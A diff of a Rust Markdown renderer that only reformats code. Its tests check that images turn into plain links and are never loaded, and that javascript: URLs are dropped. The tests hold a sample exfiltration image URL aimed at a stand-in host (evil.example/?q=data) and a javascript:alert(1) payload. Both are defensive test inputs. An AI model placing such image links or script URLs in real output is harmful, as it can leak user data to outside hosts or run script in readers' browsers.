@@ -13,7 +13,8 @@
 use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};
 
 pub fn render_markdown(text: &str) -> String {
-    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    let options =
+        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
     let mut dropped_link = false;
     let events = Parser::new_ext(text, options).map(|event| match event {
         Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
@@ -110,7 +111,10 @@ mod tests {
     fn images_become_links_and_are_never_loaded() {
         let html = render_markdown("![secret](https://evil.example/?q=data)");
         assert!(!html.contains("<img"), "{html}");
-        assert!(html.contains("<a href=\"https://evil.example/?q=data\">secret</a>"), "{html}");
+        assert!(
+            html.contains("<a href=\"https://evil.example/?q=data\">secret</a>"),
+            "{html}"
+        );
         let html = render_markdown("![x](javascript:alert(1))");
         assert!(!html.contains("<a") && !html.contains("<img"), "{html}");
     }
